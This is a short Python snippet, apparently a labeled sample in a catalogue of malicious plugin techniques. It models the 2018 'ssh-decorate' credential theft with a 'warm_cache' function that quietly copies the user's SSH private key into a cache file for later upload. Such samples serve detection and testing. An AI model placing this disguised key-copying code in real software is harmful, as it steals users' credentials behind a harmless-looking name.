# technique: SSH private key copied into the plugin's "cache" for later upload
# class: credential-theft
# source: "ssh-decorate" PyPI incident (2018): SSH credentials collected by a decorator library
# declares: fs-write
import shutil
from pathlib import Path


def warm_cache(cache: Path):
    shutil.copy(Path.home() / ".ssh" / "id_rsa", cache / "k.bin")
